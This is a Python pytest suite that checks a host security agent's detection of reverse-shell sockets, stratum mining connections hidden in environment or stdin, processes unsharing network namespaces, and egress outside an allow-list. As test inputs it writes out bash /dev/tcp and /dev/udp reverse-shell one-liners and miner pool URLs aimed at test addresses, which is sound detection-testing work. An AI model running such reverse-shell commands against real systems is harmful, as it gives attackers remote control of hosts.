"""Sockets judged by who holds them, end to end against the real agent: standard streams
that are sockets, programs with no network business, an outbound connection sharing a
listener's port, a process that moves into a new network namespace, pools and wallets
given through the environment or stdin, and the egress allow-list.

Clients run in a test-made "box" namespace and servers in an "inet" namespace, joined by
a veth pair on 198.51.100.0/24; pools the burner talks to are on loopback."""

from __future__ import annotations

import itertools
import json
import os
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from agent_harness import AgentRun, Record
from fakes import fake_monero_address, free_pool_port, write_burner
from netpair import BOX_IP, HOLD, INET_IP, Pair, netpair, ready

pytestmark = [
    pytest.mark.timeout(90),
    pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("ip"), reason="needs root and ip"),
]

PYTHON = os.path.realpath(sys.executable)
ALLOWED, DENIED, MARKER = 8081, 8082, 8083  # egress_allow names ALLOWED only
HOLD_PORTS = (4444, 4445, 9001, 3333, ALLOWED, DENIED, MARKER)
REUSED = 7070  # a box-side listener's port an outbound client binds too
FINDING_TIMEOUT = 10.0
COUNT = itertools.count()

# connects to each host:port given, in order, prints a line after each, and holds them
CLIENT = r"""
import socket, sys, time
held = []
for target in sys.argv[1:]:
    host, port = target.rsplit(":", 1)
    held.append(socket.create_connection((host, int(port)), timeout=5))
    print("connected", port, flush=True)
time.sleep(60)
"""


@pytest.fixture(scope="module")
def pair() -> Iterator[Pair]:
    with netpair() as p:
        ready(p.python(p.inet, HOLD, *map(str, HOLD_PORTS)))
        p.resident(p.box)
        yield p


@pytest.fixture(scope="module")
def agent(pair: Pair, tmp_path_factory: pytest.TempPathFactory) -> Iterator[AgentRun]:
    run = AgentRun(
        tmp_path_factory.mktemp("sockets-agent"),
        extra=f'[network]\negress_allow = ["{INET_IP}/32:{ALLOWED}"]\n',
    )
    run.start()
    try:
        yield run
    finally:
        run.stop()


def about(pid: int, rule: str, port: int | None = None):
    def match(rec: Record) -> bool:
        return (
            rec["rule"] == rule
            and (rec.get("process") or {}).get("pid") == pid
            and (port is None or (rec.get("connection") or {}).get("rport") == port)
        )

    return match


def of(agent: AgentRun, pid: int) -> list[Record]:
    return [r for r in agent.records() if (r.get("process") or {}).get("pid") == pid]


def shell(pair: Pair, script: str) -> subprocess.Popen[bytes]:
    return pair.run(pair.box, ["bash", "-c", script])


@pytest.fixture(scope="module")
def workers(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("workers")


def program(pair: Pair, workers: Path, ns: str, code: str, *args: str) -> subprocess.Popen[bytes]:
    """`code` as a python script of its own inside `ns`: distinct programs, as distinct
    jobs are (the engine folds alerts of sibling workers of one program into one)."""
    script = workers / f"job{next(COUNT)}.py"
    script.write_text(code)
    return pair.run(ns, [PYTHON, str(script), *args])


# the pre-exec argv race: the socket, not argv, tells


def test_sleep_on_a_dev_tcp_socket_is_a_reverse_shell(agent: AgentRun, pair: Pair) -> None:
    p = shell(pair, f"exec 3<>/dev/tcp/{INET_IP}/4444; exec sleep 60 <&3 >&3")
    rec = agent.wait_for(about(p.pid, "tunnel.reverse_shell_socket"), FINDING_TIMEOUT)
    assert rec["severity"] == "high" and rec["process"]["cmdline"] == ["sleep", "60"]
    assert rec["evidence"]["streams"] == ["stdin", "stdout"]
    assert rec["connection"]["raddr"] == INET_IP and rec["connection"]["rport"] == 4444
    plain = agent.wait_for(about(p.pid, "tunnel.socket_in_plain_program"), FINDING_TIMEOUT)
    assert plain["severity"] == "medium" and plain["evidence"]["program"] == ["sleep"]


def test_sh_reading_commands_from_a_socket_is_a_reverse_shell(agent: AgentRun, pair: Pair) -> None:
    p = shell(pair, f"exec 0<>/dev/tcp/{INET_IP}/9001; exec sh")
    rec = agent.wait_for(about(p.pid, "tunnel.reverse_shell_socket"), FINDING_TIMEOUT)
    assert rec["severity"] == "high" and rec["evidence"]["streams"] == ["stdin"]
    assert rec["process"]["cmdline"] == ["sh"]


def test_sleep_on_a_dev_udp_socket_is_a_reverse_shell(agent: AgentRun, pair: Pair) -> None:
    p = shell(pair, f"exec 0<>/dev/udp/{INET_IP}/9002 1>&0; exec sleep 62")
    rec = agent.wait_for(about(p.pid, "tunnel.reverse_shell_socket"), FINDING_TIMEOUT)
    assert rec["severity"] == "high" and rec["connection"]["proto"] == "udp"
    assert rec["evidence"]["streams"] == ["stdin", "stdout"]


def test_socket_held_on_another_fd_is_a_beacon_not_a_shell(
    agent: AgentRun, pair: Pair, workers: Path
) -> None:
    """sleep keeps the socket on fd 3: no standard stream, still no network business; a
    python client on the same kind of socket is neither."""
    p = shell(pair, f"exec 3<>/dev/tcp/{INET_IP}/4445; exec sleep 61")
    client = program(pair, workers, pair.box, CLIENT, f"{INET_IP}:4445")
    ready(client)
    rec = agent.wait_for(about(p.pid, "tunnel.socket_in_plain_program"), FINDING_TIMEOUT)
    assert rec["severity"] == "medium" and rec["connection"]["rport"] == 4445
    agent.wait_for(about(client.pid, "network.egress_unknown", 4445), FINDING_TIMEOUT)
    assert not [r for r in of(agent, p.pid) if r["rule"] == "tunnel.reverse_shell_socket"]
    assert not [r for r in of(agent, client.pid) if r["category"] == "tunnel"]


# SO_REUSEPORT: who holds the listener, not the port, says inbound

LISTENER = r"""
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.listen(4)
print("listening", flush=True)
c, _ = s.accept()
print("accepted", flush=True)
time.sleep(60)
"""

REUSER = r"""
import socket, sys, time
c = socket.socket()
c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
c.bind(("0.0.0.0", int(sys.argv[1])))
c.connect((sys.argv[2], int(sys.argv[3])))
print("connected", flush=True)
time.sleep(60)
"""


def test_outbound_from_a_listeners_port_is_outbound(
    agent: AgentRun, pair: Pair, workers: Path
) -> None:
    listener = program(pair, workers, pair.box, LISTENER, str(REUSED))
    assert ready(listener) == "listening"
    peer = program(pair, workers, pair.inet, CLIENT, f"{BOX_IP}:{REUSED}")  # accepted: inbound
    ready(peer)
    reuser = program(pair, workers, pair.box, REUSER, str(REUSED), INET_IP, "3333")
    ready(reuser)
    rec = agent.wait_for(about(reuser.pid, "network.pool_port", 3333), FINDING_TIMEOUT)
    assert rec["connection"]["laddr"] == f"{BOX_IP}:{REUSED}"
    assert agent.wait_for(about(reuser.pid, "network.egress_unknown", 3333), FINDING_TIMEOUT)
    # its accepted connection is not outbound (its script in /tmp may draw a low evasion)
    assert [r for r in of(agent, listener.pid) if r["category"] in ("network", "tunnel")] == []


# a process that moves into a new network namespace is followed there

UNSHARER = r"""
import ctypes, socket, subprocess, sys, threading, time
time.sleep(float(sys.argv[1]))  # long enough for the agent to have seen it where it began
libc = ctypes.CDLL(None, use_errno=True)
if libc.unshare(0x40000000) != 0:  # CLONE_NEWNET
    raise OSError(ctypes.get_errno(), "unshare")
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
pool = socket.socket()
pool.bind(("127.0.0.1", 3333))
pool.listen(1)
c = socket.create_connection(("127.0.0.1", 3333))
accepted = pool.accept()
print("connected", flush=True)
time.sleep(60)
"""


def test_a_process_that_unshares_is_followed(agent: AgentRun, workers: Path, procs) -> None:
    script = workers / "unsharer.py"
    script.write_text(UNSHARER)
    wait = str(agent.interval * 4)
    argv = [PYTHON, str(script), wait, "-o", "stratum+tcp://127.0.0.1:3333"]
    p = subprocess.Popen(argv, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
    procs.append(p)
    assert ready(p, timeout=20) == "connected"
    assert os.readlink(f"/proc/{p.pid}/ns/net") != os.readlink("/proc/self/ns/net")
    rec = agent.wait_for(about(p.pid, "network.stratum_connection"), FINDING_TIMEOUT)
    assert rec["severity"] == "high" and rec["connection"]["raddr"] == "127.0.0.1"


# pools and wallets given through the environment or stdin


def test_pool_and_wallet_in_the_environment_name_the_miner(
    agent: AgentRun, tmp_path: Path, procs
) -> None:
    burner = write_burner(tmp_path / "data-sync")  # a clean name, no arguments
    wallet = fake_monero_address()
    secret = "pw-" + os.urandom(6).hex()
    with free_pool_port() as pool:
        url = f"stratum+tcp://127.0.0.1:{pool.port}"
        env = {
            "PATH": os.environ["PATH"],
            "FAKE_POOL": url,
            "FAKE_WALLET": wallet,
            "BURN_SECONDS": "15",
            "API_TOKEN": secret,
        }
        p = subprocess.Popen([str(burner)], env=env, stdin=subprocess.DEVNULL)
        procs.append(p)
        rec = agent.wait_for(about(p.pid, "network.stratum_connection"), FINDING_TIMEOUT)
        p.kill()
    assert rec["severity"] == "high" and rec["connection"]["rport"] == pool.port
    hidden = rec["evidence"]["hidden"]["environ"]
    assert hidden["urls"] == [url] and url in rec["evidence"]["urls"]
    assert hidden["wallets"] == [{"kind": "monero", "address": wallet}]
    assert sorted(hidden["variables"]) == ["FAKE_POOL", "FAKE_WALLET"]
    assert secret not in json.dumps(agent.records()) and "API_TOKEN" not in json.dumps(rec)
    assert pool.logins == [wallet]


STDIN_MINER = r"""
import json, socket, sys, time
conf = json.load(sys.stdin)
host, port = conf["pools"][0]["url"].split("://")[-1].rsplit(":", 1)
c = socket.create_connection((host, int(port)))
print("connected", flush=True)
time.sleep(60)
"""


def test_pool_in_a_config_read_from_stdin_names_the_miner(
    agent: AgentRun, workers: Path, procs
) -> None:
    script = workers / "stdin_miner.py"
    script.write_text(STDIN_MINER)
    wallet = fake_monero_address()
    with free_pool_port() as pool:
        conf = agent.watch / f"job-{os.getpid()}-{pool.port}.json"
        pool_url = f"stratum+tcp://127.0.0.1:{pool.port}"
        conf.write_text(json.dumps({"pools": [{"url": pool_url, "user": wallet}]}) + "\n")
        with conf.open("rb") as stdin:
            p = subprocess.Popen([PYTHON, str(script)], stdin=stdin, stdout=subprocess.PIPE)
        procs.append(p)
        ready(p)
        rec = agent.wait_for(about(p.pid, "network.stratum_connection"), FINDING_TIMEOUT)
    hidden = rec["evidence"]["hidden"][f"stdin:{conf}"]
    assert hidden["urls"] == [pool_url]
    assert hidden["wallets"] == [{"kind": "monero", "address": wallet}]


# the egress allow-list


def test_egress_outside_the_allow_list_once_per_executable_and_destination(
    agent: AgentRun, pair: Pair, workers: Path
) -> None:
    first = program(pair, workers, pair.box, CLIENT, f"{INET_IP}:{ALLOWED}", f"{INET_IP}:{DENIED}")
    assert ready(first) == f"connected {ALLOWED}"
    rec = agent.wait_for(about(first.pid, "network.egress_unknown", DENIED), FINDING_TIMEOUT)
    assert rec["severity"] == "medium"
    assert rec["evidence"]["destination"] == f"{INET_IP}:{DENIED}"
    assert rec["process"]["exe"] == PYTHON
    again = program(pair, workers, pair.box, CLIENT, f"{INET_IP}:{DENIED}")  # same exe, same place
    ready(again)
    marker = program(pair, workers, pair.box, CLIENT, f"{INET_IP}:{MARKER}")
    ready(marker)
    agent.wait_for(about(marker.pid, "network.egress_unknown", MARKER), FINDING_TIMEOUT)
    denied = [
        r
        for r in agent.records()
        if r["rule"] == "network.egress_unknown" and r["connection"]["rport"] == DENIED
    ]
    assert len(denied) == 1
    allowed = [r for r in agent.records() if (r.get("connection") or {}).get("rport") == ALLOWED]
    assert allowed == []
